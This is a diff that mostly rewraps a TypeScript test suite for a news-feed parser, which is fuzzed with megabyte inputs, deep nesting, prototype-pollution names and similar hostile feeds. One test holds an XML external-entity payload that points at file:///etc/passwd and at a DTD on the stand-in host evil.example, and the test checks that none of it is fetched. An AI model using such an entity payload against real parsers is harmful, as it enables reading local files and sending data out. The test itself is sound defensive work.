@@ -11,11 +11,16 @@ import { jsonFeed, megabyteOf, read, rss } from '../support/feeds.js';
 
 const GOOD = '<item><title>Good</title><link>https://paper.example/good</link></item>';
 const titles = (body: string) => read(body).articles.map(({ title }) => title);
-const numbered = (count: number, make: (n: number) => string) => Array.from({ length: count }, (_one, n) => make(n)).join('');
+const numbered = (count: number, make: (n: number) => string) =>
+  Array.from({ length: count }, (_one, n) => make(n)).join('');
 
 describe('a megabyte of', () => {
-  const PIECES = ['<', '<a ', '<a "', '&', '&#', '&amp', `<a a='"`, '<a a="', '</', '<!', '<!--', '<![CDATA[', ']]>', '<?', '<img ', '<img src="',
-    '<script>', '<svg ', '\0', ' ', '\u202e', '\ud83d', '&#150;', '&#x202e;', '<a' + ' '.repeat(1000), `<a${' "'.repeat(300)}`, '@', 'a@', '"', '(', '1', '.']; // prettier-ignore
+  // prettier-ignore
+  const PIECES = [
+    '<', '<a ', '<a "', '&', '&#', '&amp', `<a a='"`, '<a a="', '</', '<!', '<!--', '<![CDATA[', ']]>', '<?',
+    '<img ', '<img src="', '<script>', '<svg ', '\0', ' ', '\u202e', '\ud83d', '&#150;', '&#x202e;',
+    '<a' + ' '.repeat(1000), `<a${' "'.repeat(300)}`, '@', 'a@', '"', '(', '1', '.',
+  ];
 
   for (const piece of PIECES) {
     const name = JSON.stringify(piece.slice(0, 12));
@@ -23,7 +28,10 @@ describe('a megabyte of', () => {
     it(`${name} between items costs nothing but itself`, () => {
       const text = megabyteOf(piece);
       expect(titles(`<rss><channel>${GOOD}${text}`)[0], 'in RSS').to.equal('Good');
-      expect(titles(rss(`${GOOD}<item><enclosure type="image/png" url="${text}"/></item>`))[0], 'in an attribute').to.equal('Good');
+      expect(
+        titles(rss(`${GOOD}<item><enclosure type="image/png" url="${text}"/></item>`))[0],
+        'in an attribute',
+      ).to.equal('Good');
       const item = { title: text, url: text, content_html: text, date_published: text, language: text, image: text };
       expect(titles(jsonFeed([{ title: 'Good', url: '/good' }, item]))[0], 'in JSON').to.equal('Good');
     });
@@ -31,14 +39,18 @@ describe('a megabyte of', () => {
     it(`${name} inside an item costs nothing but itself`, () => {
       const text = megabyteOf(piece);
       for (const element of ['title', 'link', 'guid', 'content:encoded', 'author', 'pubDate', 'dc:language']) {
-        expect(titles(rss(`${GOOD}<item><${element}>${text}</${element}></item>`))[0], `as ${element}`).to.equal('Good');
+        expect(titles(rss(`${GOOD}<item><${element}>${text}</${element}></item>`))[0], `as ${element}`).to.equal(
+          'Good',
+        );
       }
     });
 
     it(`${name} is no feed`, () => {
       const text = megabyteOf(piece);
       for (const body of [text, `<html>${text}`, `{${text}`, `{"items":["${text}`, `{"items":[{"a":${text}`]) {
-        expect(() => read(body)).to.throw(NewsError).with.property('code', 'format');
+        expect(() => read(body))
+          .to.throw(NewsError)
+          .with.property('code', 'format');
       }
     });
   }
@@ -53,12 +65,16 @@ describe('a document with', () => {
   it('100,000 nested elements keeps its items', () => {
     expect(titles(rss('<a>'.repeat(100_000) + '</a>'.repeat(100_000) + GOOD))).to.deep.equal(['Good']);
     expect(titles(rss(`${GOOD}<item>${'<a>'.repeat(100_000)}`))).to.deep.equal(['Good']);
-    expect(titles(rss(`<item><title>${'<b>'.repeat(100_000)}Deep${'</b>'.repeat(100_000)}</title><link>/a</link></item>`))).to.be.an('array');
+    expect(
+      titles(rss(`<item><title>${'<b>'.repeat(100_000)}Deep${'</b>'.repeat(100_000)}</title></item>${GOOD}`)),
+    ).to.deep.equal(['Good']);
   });
 
   it('100,000 nested elements in JSON keeps its items', () => {
     const deep = '['.repeat(100_000) + ']'.repeat(100_000);
-    expect(titles(`{"items":[{"title":"Good","url":"/a","authors":${deep},"tags":${deep}},${deep}]}`)).to.deep.equal(['Good']);
+    expect(titles(`{"items":[{"title":"Good","url":"/a","authors":${deep},"tags":${deep}},${deep}]}`)).to.deep.equal([
+      'Good',
+    ]);
   });
 
   it('100,000 end tags that close nothing keeps its items', () => {
@@ -68,7 +84,9 @@ describe('a document with', () => {
 
   it('100,000 namespace declarations, nested or not, keeps its items', () => {
     expect(titles(rss(numbered(100_000, (n) => `<a xmlns:n${n}="urn:${n}">`) + GOOD))).to.deep.equal(['Good']);
-    expect(titles(`<rss><channel><x ${numbered(100_000, (n) => `xmlns:n${n}="urn:${n}" `)}/>${GOOD}</channel></rss>`)).to.deep.equal(['Good']);
+    expect(
+      titles(`<rss><channel><x ${numbered(100_000, (n) => `xmlns:n${n}="urn:${n}" `)}/>${GOOD}</channel></rss>`),
+    ).to.deep.equal(['Good']);
     expect(titles(rss(numbered(100_000, (n) => `<n${n}:a/>`) + GOOD))).to.deep.equal(['Good']);
   });
 
@@ -80,7 +98,8 @@ describe('a document with', () => {
   });
 
   it('entities of files fetches none of them', () => {
-    const external = '<!DOCTYPE rss [<!ENTITY x SYSTEM "file:///etc/passwd"><!ENTITY % y SYSTEM "https://evil.example/x.dtd">%y;]>';
+    const external =
+      '<!DOCTYPE rss [<!ENTITY x SYSTEM "file:///etc/passwd"><!ENTITY % y SYSTEM "https://evil.example/x.dtd">%y;]>';
     expect(titles(external + rss('<item><title>A &x; b</title><link>/a</link></item>'))).to.deep.equal(['A &x; b']);
   });
 
@@ -96,7 +115,10 @@ describe('a document with', () => {
 
   it('10,000 items that are alike, behind 10,000 that took the ids they would get, gives each an id of its own', () => {
     const url = 'https://paper.example/a';
-    const taken = numbered(10_000, (n) => `<item><title>T</title><link>${url}</link><guid>${url}#${n + 2}</guid></item>`);
+    const taken = numbered(
+      10_000,
+      (n) => `<item><title>T</title><link>${url}</link><guid>${url}#${n + 2}</guid></item>`,
+    );
     const { articles } = read(rss(taken + `<item><title>T</title><link>${url}</link></item>`.repeat(10_000)));
     expect(new Set(articles.map(({ id }) => id)).size).to.equal(20_000);
   });
@@ -106,7 +128,11 @@ describe('a document with', () => {
   });
 
   const MANY_AUTHORS = {
-    RSS: () => rss('<item><title>T</title><link>/a</link></item>'.repeat(10_000), numbered(10_000, (n) => `<managingEditor>E${n}</managingEditor>`)),
+    RSS: () =>
+      rss(
+        '<item><title>T</title><link>/a</link></item>'.repeat(10_000),
+        numbered(10_000, (n) => `<managingEditor>E${n}</managingEditor>`),
+      ),
     Atom: () =>
       `<feed>${numbered(10_000, (n) => `<author><name>A${n}</name></author>`)}${'<entry><title>T</title><link href="/a"/></entry>'.repeat(10_000)}</feed>`,
     JSON: () => jsonFeed(Array(10_000).fill({ title: 'T', url: '/a' }), { authors: Array(10_000).fill({ name: 'A' }) }),
@@ -122,7 +148,9 @@ describe('a document with', () => {
   it('a base or a language of a megabyte for each of 10,000 items ignores it', () => {
     const long = megabyteOf('a');
     for (const attribute of [`xml:base="https://a.example/${long}/"`, `xml:lang="${long}"`]) {
-      const { articles } = read(`<feed ${attribute}>${'<entry><title>T</title><link href="/a"/></entry>'.repeat(10_000)}</feed>`);
+      const { articles } = read(
+        `<feed ${attribute}>${'<entry><title>T</title><link href="/a"/></entry>'.repeat(10_000)}</feed>`,
+      );
       expect(articles).to.have.length(10_000);
       expect(articles[0]).to.include({ url: 'https://paper.example/a' }).and.not.to.have.property('language');
     }
@@ -130,12 +158,16 @@ describe('a document with', () => {
 
   it('30,000 pictures that share one long description shows one', () => {
     const media = `<media:description>${'long '.repeat(10_000)}</media:description>${'<media:content url="a.jpg"/>'.repeat(30_000)}`;
-    expect(read(rss(`<item><title>T</title><link>/a</link>${media}</item>`)).articles[0]!.image?.url).to.equal('https://paper.example/feeds/a.jpg');
+    expect(read(rss(`<item><title>T</title><link>/a</link>${media}</item>`)).articles[0]!.image?.url).to.equal(
+      'https://paper.example/feeds/a.jpg',
+    );
   });
 
   it('a link with 100,000 tracking parameters is compared like any other', () => {
     const link = `https://paper.example/a?${numbered(100_000, (n) => `utm_${n}=1&amp;`)}x=1`;
-    const { articles } = read(rss(`<item><title>A</title><link>${link}</link></item><item><title>B</title><link>/a?x=1</link></item>`));
+    const { articles } = read(
+      rss(`<item><title>A</title><link>${link}</link></item><item><title>B</title><link>/a?x=1</link></item>`),
+    );
     expect(tidy(articles, toRequest({}, expect.fail))).to.have.length(1);
   });
 });
@@ -159,7 +191,9 @@ describe('text made to deceive', () => {
 describe('names that every object has', () => {
   it('as elements and attributes are just names', () => {
     const names = ['constructor', '__proto__', 'prototype', 'toString', 'hasOwnProperty', 'valueOf'];
-    const odd = names.map((name) => `<${name} ${name}="x" xmlns:${name}="urn:${name}"><${name}:title/>x</${name}>`).join('');
+    const odd = names
+      .map((name) => `<${name} ${name}="x" xmlns:${name}="urn:${name}"><${name}:title/>x</${name}>`)
+      .join('');
     expect(titles(rss(odd + GOOD.replace('<title', `${odd}<title`), odd))).to.deep.equal(['Good']);
     for (const name of names) expect(titles(`<${name}:rss xmlns:${name}="urn:x" ${name}="x"/>`)).to.deep.equal([]);
   });
